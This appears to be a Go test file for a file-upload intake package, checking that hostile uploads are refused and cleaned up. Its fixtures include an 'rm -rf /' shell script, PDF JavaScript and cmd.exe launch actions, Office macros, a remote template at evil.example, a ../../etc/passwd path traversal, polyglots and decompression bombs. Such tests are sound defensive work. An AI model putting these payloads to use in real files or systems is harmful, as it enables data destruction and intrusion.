package blob_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"xaso/internal/platform/blob"
	"xaso/internal/platform/fault"
)

var eicar = []byte(`X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR` + `-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`)

// A hostile file and the words it is refused with.
type hostile struct {
	name string
	file string
	data []byte
	want error
}

func refused(t *testing.T, tests []hostile) {
	t.Helper()
	in, store, dir := intake(t)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := in.Receive(t.Context(), 1, tt.file, "", bytes.NewReader(tt.data), blob.Limits{})
			if !errors.Is(err, tt.want) {
				t.Errorf("error = %v, want %v", err, tt.want)
			}
		})
	}
	if keys := stored(t, store); len(keys) > 0 {
		t.Errorf("refused files were kept: %v", keys)
	}
	if left := remains(t, dir); len(left) > 0 {
		t.Errorf("temporary files left: %v", left)
	}
}

func TestForeignTypesAreRefused(t *testing.T) {
	docx := officeOf(docxMain)
	html := []byte("<!DOCTYPE html><html><script>alert(1)</script></html>")
	refused(t, []hostile{
		{"nothing", "a.pdf", nil, blob.ErrEmpty},
		{"EICAR", "a.pdf", eicar, blob.ErrInfected},
		{"HTML named jpg", "anh.jpg", html, blob.ErrWebCode},
		{"SVG", "a.svg", []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), blob.ErrWebCode},
		{"SVG named png", "a.png", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>`), blob.ErrWebCode},
		{"Windows program", "a.jpg", join([]byte("MZ"), make([]byte, 200)), blob.ErrProgram},
		{"Linux program", "a.pdf", join([]byte("\x7fELF\x02\x01\x01\x00"), make([]byte, 8), []byte{2, 0}, make([]byte, 60)), blob.ErrProgram},
		{"shell script", "a.pdf", []byte("#!/bin/sh\nrm -rf /\n"), blob.ErrProgram},
		{"plain text", "a.txt", []byte("xin chào\n"), blob.ErrType},
		{"GIF", "a.gif", []byte("GIF89a\x01\x00\x01\x00\x00\x00\x00;"), blob.ErrType},
		{"GIFAR", "a.gif", join([]byte("GIF89a\x01\x00\x01\x00\x00\x00\x00;"), docx), blob.ErrType},
		{"photo of an iPhone", "IMG_1.HEIC", []byte("\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic"), blob.ErrHEIC},
	})
}

func TestHostilePicturesAreRefused(t *testing.T) {
	docx := officeOf(docxMain)
	refused(t, []hostile{
		{"JPEG with an archive behind", "a.jpg", join(jpegOf(8, 8), docx), blob.ErrTwoInOne},
		{"PNG with an archive behind", "a.png", join(pngOf(8, 8), docx), blob.ErrTwoInOne},
		{"JPEG cut short", "a.jpg", half(jpegOf(400, 300)), blob.ErrDamaged},
		{"PNG of 2,500 million pixels", "a.png", hugePNG(50_000, 50_000), blob.ErrPixels},
		{"PDF named jpg", "a.jpg", pdfOf(), blob.ErrNameMismatch},
		{"JPEG named pdf", "a.pdf", jpegOf(8, 8), blob.ErrNameMismatch},
		{"PDF named exe", "a.pdf.exe", pdfOf(), blob.ErrNameMismatch},
		{"Word named xlsx", "a.xlsx", docx, blob.ErrNameMismatch},
	})
}

func TestHostilePDFsAreRefused(t *testing.T) {
	docx := officeOf(docxMain)
	refused(t, []hostile{
		{"PDF not at the start", "a.pdf", join([]byte("\x89PNG\r\n\x1a\n"), pdfOf()), blob.ErrTwoInOne},
		{"PDF with an archive behind", "a.pdf", join(pdfOf(), docx), blob.ErrTwoInOne},
		{"PDF with web code at its head", "a.pdf", bytes.Replace(pdfOf(), []byte("\n"), []byte("\n%<script>\n"), 1), blob.ErrTwoInOne},
		{"PDF cut short", "a.pdf", pdfOf()[:200], blob.ErrDamaged},
		{"PDF with script", "a.pdf", pdfOf("4 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj"), blob.ErrPDFActive},
		{"script on opening", "a.pdf", pdfOf("4 0 obj << /OpenAction << /JS 5 0 R >> >> endobj"), blob.ErrPDFActive},
		{"script spelt in hex", "a.pdf", pdfOf("4 0 obj << /S /J#61va#53cript >> endobj"), blob.ErrPDFActive},
		{"PDF that starts a program", "a.pdf", pdfOf("4 0 obj << /S /Launch /F (cmd.exe) >> endobj"), blob.ErrPDFActive},
		{"PDF with a file inside", "a.pdf", pdfOf("4 0 obj << /Type /Filespec /EF << /F 5 0 R >> >> endobj"), blob.ErrPDFAttachment},
		{"PDF with a password", "a.pdf", pdfOf("trailer << /Encrypt 9 0 R >>"), blob.ErrLocked},
		{"packed script", "a.pdf", pdfOf(objectStream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", "1 0 <</S/JavaScript>>")), blob.ErrPDFActive},
		{"packed script without its type", "a.pdf", pdfOf(objectStream("/N 1 /F#69rst 4 /Filter [/FlateDecode]", "1 0 <</JS(x)>>")), blob.ErrPDFActive},
		{"packed far behind", "a.pdf", pdfOf(objectStream("/Type /ObjStm /First 4 /Filter /FlateDecode", strings.Repeat(" ", 65_530)+"/JavaScript")), blob.ErrPDFActive},
		{"packed twice", "a.pdf", pdfOf(objectStream("/First 4 /Filter [/FlateDecode /FlateDecode]", deflated("/JavaScript"))), blob.ErrPDFUnclear},
		{"packed otherwise", "a.pdf", pdfOf("9 0 obj << /First 4 /Filter /ASCIIHexDecode >> stream\n2f4a53>\nendstream endobj"), blob.ErrPDFUnclear},
		{"dictionary hidden by a string", "a.pdf", pdfOf(objectStream("/First 4 /X (\n9 0 obj\n) /Filter /FlateDecode", "/JS")), blob.ErrPDFUnclear},
		{"stream begun in a string", "a.pdf", pdfOf(objectStream("/First 4 /X (stream\nendstream) /Filter /FlateDecode", "/JS")), blob.ErrPDFUnclear},
		{"dictionary hidden by a hex string", "a.pdf", pdfOf(objectStream("/Y <(> /First 4 /X <)> /Filter /FlateDecode", "/JS")), blob.ErrPDFUnclear},
		{"object inside a stream", "a.pdf", pdfOf("9 0 obj << /Length 9 >> stream\n7 0 obj << >>\nendstream endobj"), blob.ErrPDFUnclear},
		{"object stream of 40 MiB", "a.pdf", pdfOf(objectStream("/First 4 /Filter /FlateDecode", strings.Repeat(" ", 40<<20))), blob.ErrBomb},
	})
}

func TestHostileOfficeFilesAreRefused(t *testing.T) {
	docx := officeOf(docxMain)
	zeros := strings.Repeat("\x00", 3<<20)
	many := make([]part, 2001)
	for i := range many {
		many[i].name = fmt.Sprint("xl/", i)
	}
	refused(t, []hostile{
		{"Word 97", "a.doc", join([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), make([]byte, 600)), blob.ErrOldOffice},
		{"docm", "a.docm", officeOf("application/vnd.ms-word.document.macroEnabled.main+xml"), blob.ErrMacros},
		{"docm named docx", "a.docx", officeOf("application/vnd.ms-word.document.macroEnabled.main+xml"), blob.ErrMacros},
		{"xlsm named xlsx", "a.xlsx", officeOf("application/vnd.ms-excel.sheet.macroEnabled.main+xml"), blob.ErrMacros},
		{"macro part in a docx", "a.docx", officeOf(docxMain, part{"word/VBAProject.bin", "x"}), blob.ErrMacros},
		{"embedded object", "a.docx", officeOf(docxMain, part{"word/embeddings/oleObject1.bin", "x"}), blob.ErrObjectInside},
		{"template from elsewhere", "a.docx", officeOf(docxMain, part{"word/_rels/settings.xml.rels",
			`<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`}), blob.ErrObjectInside},
		{"part outside the folder", "a.docx", officeOf(docxMain, part{"../../etc/passwd", "x"}), blob.ErrTwoInOne},
		{"one part twice", "a.docx", officeOf(docxMain, part{"WORD/document.xml", "x"}), blob.ErrTwoInOne},
		{"archive before the document", "a.docx", join(zipOf(part{"a", noise(200_000)}), docx), blob.ErrTwoInOne},
		{"locked", "a.docx", lockedZip(docx), blob.ErrLocked},
		{"steep part", "a.xlsx", officeOf(xlsxMain, part{"xl/a.xml", zeros}), blob.ErrBomb},
		{"too many parts", "a.xlsx", officeOf(xlsxMain, many...), blob.ErrBomb},
		{"some archive", "a.zip", zipOf(part{"a.txt", "x"}), blob.ErrType},
		{"archive cut short", "a.docx", docx[:len(docx)-30], blob.ErrDamaged},
		{"Android program", "a.docx", zipOf(part{"AndroidManifest.xml", "x"}, part{"classes.dex", "x"}), blob.ErrProgram},
	})
}

// noise does not compress.
func noise(n int) string {
	b := make([]byte, n)
	x := uint32(1)
	for i := range b {
		x = x*1664525 + 1013904223
		b[i] = byte(x >> 24)
	}
	return string(b)
}

func TestSizeLimitIsExact(t *testing.T) {
	in, _, _ := intake(t)
	pdf := pdfOf()
	for extra, want := range map[int64]error{0: nil, -1: blob.ErrTooLarge} {
		limits := blob.Limits{MaxBytes: int64(len(pdf)) + extra}
		_, err := in.Receive(t.Context(), 1, "a.pdf", "", bytes.NewReader(pdf), limits)
		if !errors.Is(err, want) {
			t.Errorf("limit %d for %d bytes: %v, want %v", limits.MaxBytes, len(pdf), err, want)
		}
	}
}

func TestEndlessBodyStopsAtTheLimit(t *testing.T) {
	in, _, dir := intake(t)
	body := &counting{r: endless{}}
	_, err := in.Receive(t.Context(), 1, "a.pdf", "", body, blob.Limits{MaxBytes: 1 << 20})
	if !errors.Is(err, blob.ErrTooLarge) || body.n > 2<<20 {
		t.Errorf("read %d bytes, error %v", body.n, err)
	}
	if left := remains(t, dir); len(left) > 0 {
		t.Errorf("left: %v", left)
	}
}

type endless struct{}

func (endless) Read(p []byte) (int, error) { clear(p); return len(p), nil }

type counting struct {
	r io.Reader
	n int
}

func (c *counting) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n += n
	return n, err
}

func TestBrokenLineLeavesNothing(t *testing.T) {
	in, store, dir := intake(t)
	body := io.MultiReader(bytes.NewReader(pdfOf()), broken{})
	_, err := in.Receive(t.Context(), 1, "a.pdf", "", body, blob.Limits{})
	if !errors.Is(err, blob.ErrInterrupted) {
		t.Errorf("error = %v", err)
	}
	if len(stored(t, store)) > 0 || len(remains(t, dir)) > 0 {
		t.Error("something was kept")
	}
}

type broken struct{}

func (broken) Read([]byte) (int, error) { return 0, errors.New("connection reset by peer") }

func TestOnlySomeTypes(t *testing.T) {
	in, _, _ := intake(t)
	photos := blob.Limits{Only: []string{blob.JPEG}}
	if _, err := in.Receive(t.Context(), 1, "a.pdf", "", bytes.NewReader(pdfOf()), photos); !errors.Is(err, blob.ErrType) {
		t.Errorf("PDF for a photo: %v", err)
	}
	if _, err := in.Receive(t.Context(), 1, "a.png", "", bytes.NewReader(pngOf(8, 8)), photos); err != nil {
		t.Errorf("PNG for a photo: %v", err)
	}
}

func TestDeclaredTypes(t *testing.T) {
	in, _, _ := intake(t)
	for declared, want := range map[string]error{
		"":                         nil,
		"application/pdf":          nil,
		"Application/PDF; x=1":     nil,
		"application/octet-stream": nil,
		"text/html":                blob.ErrNameMismatch,
		"image/jpeg":               blob.ErrNameMismatch,
	} {
		_, err := in.Receive(t.Context(), 1, "a.pdf", declared, bytes.NewReader(pdfOf()), blob.Limits{})
		if !errors.Is(err, want) {
			t.Errorf("%q: %v, want %v", declared, err, want)
		}
	}
}

// Bombs must cost little: the header alone decides, whatever it promises.
func TestBombsCostLittle(t *testing.T) {
	bombs := map[string][]byte{
		"a.png": hugePNG(50_000, 50_000),
		"b.png": hugePNG(1<<31-1, 1<<31-1),
		"a.xlsx": officeOf(xlsxMain, part{"xl/a.xml", strings.Repeat("\x00", 20<<20)},
			part{"xl/b.xml", strings.Repeat("\x00", 20<<20)}),
	}
	for name, data := range bombs {
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		start := time.Now()
		_, err := blob.Inspect(data, name, blob.Limits{})
		took := time.Since(start)
		runtime.ReadMemStats(&after)
		if fault.KindOf(err) != fault.TooLarge && !errors.Is(err, blob.ErrDamaged) {
			t.Errorf("%s: %v", name, err)
		}
		if grown := after.TotalAlloc - before.TotalAlloc; grown > 64<<20 {
			t.Errorf("%s: %d MiB allocated", name, grown>>20)
		}
		if took > 2*time.Second {
			t.Errorf("%s: %v", name, took)
		}
	}
}

func TestSenderWhoLeavesWhileWaiting(t *testing.T) {
	in, _, dir := intake(t)
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	_, err := in.Receive(ctx, 1, "a.pdf", "", bytes.NewReader(pdfOf()), blob.Limits{})
	if !errors.Is(err, context.Canceled) {
		t.Errorf("error = %v", err)
	}
	if left := remains(t, dir); len(left) > 0 {
		t.Errorf("left: %v", left)
	}
}

func TestEveryFaultHasASentence(t *testing.T) {
	texts := map[string]map[string]string{}
	for _, tag := range []string{"vi", "en"} {
		b, err := blob.Texts.ReadFile("locale/" + tag + ".json")
		if err != nil {
			t.Fatal(err)
		}
		var sentences map[string]string
		if err := json.Unmarshal(b, &sentences); err != nil {
			t.Fatal(err)
		}
		texts[tag] = sentences
	}
	verbs := regexp.MustCompile(`%[a-z]`)
	var codes []string
	for _, f := range fault.Declared() {
		if !strings.HasPrefix(f.Code, "blob.") {
			continue
		}
		codes = append(codes, f.Code)
		vi, en := texts["vi"][f.Code], texts["en"][f.Code]
		if vi == "" || en == "" {
			t.Errorf("%s: a sentence is missing", f.Code)
		}
		if !slices.Equal(verbs.FindAllString(vi, -1), verbs.FindAllString(en, -1)) {
			t.Errorf("%s: different values in vi and en", f.Code)
		}
	}
	for tag, sentences := range texts {
		for key := range sentences {
			if !slices.Contains(codes, key) {
				t.Errorf("%s: %s is said by nobody", tag, key)
			}
		}
	}
}
